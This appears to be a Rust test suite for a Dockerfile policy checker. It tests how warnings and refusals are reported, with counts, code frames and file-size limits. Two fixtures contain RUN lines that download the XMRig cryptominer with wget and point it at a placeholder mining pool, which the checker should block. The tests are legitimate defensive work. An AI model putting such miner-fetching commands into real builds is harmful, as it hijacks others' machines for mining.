//! How findings are shown: as warnings at the end of a build, as a list with code frames where it is refused.

use crate::frontend::Rulebook;
use crate::frontend::protocol::{Position, Range, Status};

use super::gateway::{Gateway, result};
use super::rulebooks::rulebook_of;

/// A policy that reports some instructions.
fn reports(words: &[&str], action: &str) -> Rulebook {
    let check = |word: &&str| {
        format!(
            "[[rules.instruction.checks]]\ninstruction = \"{word}\"\ncheck = \"exists\"\naction = \"{action}\"\n"
        )
    };
    rulebook_of(&words.iter().map(check).collect::<String>())
}

fn labels(count: usize) -> String {
    format!("FROM scratch\n{}", "LABEL a=b\n".repeat(count))
}

/// A Dockerfile of so many bytes, with one label. BuildKit takes no line of 64 KiB.
fn large(bytes: usize) -> String {
    let mut text = labels(1);
    while text.len() < bytes {
        let length = (bytes - text.len()).min(1000);
        text.push_str(&format!("{:#<width$}\n", "", width = length - 1));
    }
    text
}

fn range(first: i32, last: i32) -> Range {
    let at = |line| Some(Position { line, character: 0 });
    Range { start: at(first), end: at(last) }
}

#[test]
fn fifty_warnings_are_shown_and_the_rest_is_counted() {
    for (count, last) in [(50, "instruction: "), (53, "minestop: and 3 more warnings")] {
        let seen = Gateway::with(&labels(count)).run_with(&[], Ok(reports(&["LABEL"], "warn")));
        assert_eq!(seen.result(), result("built"));
        assert_eq!(seen.warnings.len(), count.min(51));
        assert!(seen.warnings.iter().all(|it| it.level == 1));
        let short = seen.warnings.last().map(|it| String::from_utf8_lossy(&it.short).into_owned());
        assert!(short.as_ref().is_some_and(|it| it.starts_with(last)), "{short:?}");
    }
}

#[test]
fn a_warning_has_its_lines_its_file_and_where_to_read_more() {
    let text = "FROM scratch\nLABEL a=b \\\n  c=d\nLABEL e=f\n";
    let policy = "docs-url = \"https://docs.example.invalid/{rule}\"\n[[rules.instruction.checks]]\ninstruction = \"LABEL\"\ncheck = \"exists\"\naction = \"warn\"\n";
    let seen = Gateway::with(text).run_with(&[], Ok(rulebook_of(policy)));
    let ranges: Vec<_> = seen.warnings.iter().map(|it| it.ranges.clone()).collect();
    assert_eq!(ranges, [[range(2, 3)], [range(4, 4)]]);
    let [first, _] = seen.warnings.as_slice() else { panic!("{:?}", seen.warnings) };
    assert_eq!(String::from_utf8_lossy(&first.short), "instruction: LABEL is forbidden (line 2)");
    assert_eq!(first.detail, [b"follow the policy's check".to_vec()]);
    assert_eq!(first.url, "https://docs.example.invalid/instruction");
    let info = first.info.as_ref().expect("it carries the file");
    assert_eq!((info.filename.as_str(), info.language.as_str()), ("Dockerfile", "Dockerfile"));
    assert_eq!(info.data, text.as_bytes());
}

#[test]
fn a_warning_leaves_a_large_file_out() {
    for (bytes, is_there) in [(256 << 10, true), ((256 << 10) + 1, false)] {
        let seen = Gateway::with(&large(bytes)).run_with(&[], Ok(reports(&["LABEL"], "warn")));
        let infos: Vec<bool> = seen.warnings.iter().map(|it| it.info.is_some()).collect();
        assert_eq!(infos, [is_there], "{bytes}");
    }
}

fn refused(text: &str, words: &[&str]) -> Status {
    Gateway::with(text).run_with(&[], Ok(reports(words, "stop"))).error()
}

/// File and lines of each code frame, in the order in which BuildKit gets them.
fn frames(error: &Status) -> Vec<(String, Vec<(u64, u64)>)> {
    let frames = error.details.iter().map(|detail| {
        let frame: serde_json::Value = serde_json::from_slice(&detail.value).expect("it is JSON");
        let ranges = frame["ranges"].as_array().expect("a list").iter();
        let line = |at: &serde_json::Value| at["line"].as_u64().expect("a number");
        let ranges = ranges.map(|it| (line(&it["start"]), line(&it["end"]))).collect();
        (frame["info"]["filename"].as_str().expect("a name").to_owned(), ranges)
    });
    frames.collect()
}

#[test]
fn fifty_findings_are_listed_and_the_rest_is_counted() {
    for (count, says_more) in [(50, false), (53, true)] {
        let error = refused(&labels(count), &["LABEL"]);
        let head = format!("build refused by minestop: {count} STOP, 0 WARN");
        assert!(error.message.starts_with(&head), "{}", error.message);
        assert_eq!(error.message.matches("STOP[instruction]").count(), 50);
        assert_eq!(error.message.contains("and 3 more findings"), says_more, "{}", error.message);
        assert_eq!(error.message.contains("more findings"), says_more, "{}", error.message);
        assert_eq!(error.details.len(), 32, "each carries the file");
    }
}

#[test]
fn findings_on_the_same_lines_share_a_frame() {
    let text = "FROM scratch\nRUN wget https://github.com/xmrig/xmrig/a.tar.gz && \\\n  true && \\\n  ./work -o stratum+tcp://pool.example.invalid:1\nLABEL a=b\n";
    let error = refused(text, &["RUN", "LABEL"]);
    assert!(error.message.contains("STOP[mining-pool]"), "{}", error.message);
    let frame = |first, last| ("Dockerfile".to_owned(), vec![(first, last)]);
    // BuildKit prints the last one first
    assert_eq!(frames(&error), [frame(5, 5), frame(2, 4)]);
}

#[test]
fn a_frame_ends_where_its_finding_ends() {
    let text = "FROM scratch\nRUN wget https://github.com/xmrig/xmrig/a.tar.gz\n\nUSER web\n";
    assert_eq!(frames(&refused(text, &[])), [("Dockerfile".to_owned(), vec![(2, 2)])]);
}

#[test]
fn a_file_that_is_too_large_for_a_frame_has_none() {
    // without any frame BuildKit would point at the line of `# syntax=`
    let nothing = (String::new(), Vec::new());
    for (bytes, wanted) in
        [(1 << 20, ("Dockerfile".to_owned(), vec![(2, 2)])), ((1 << 20) + 1, nothing)]
    {
        assert_eq!(frames(&refused(&large(bytes), &["LABEL"])), [wanted], "{bytes}");
    }
}
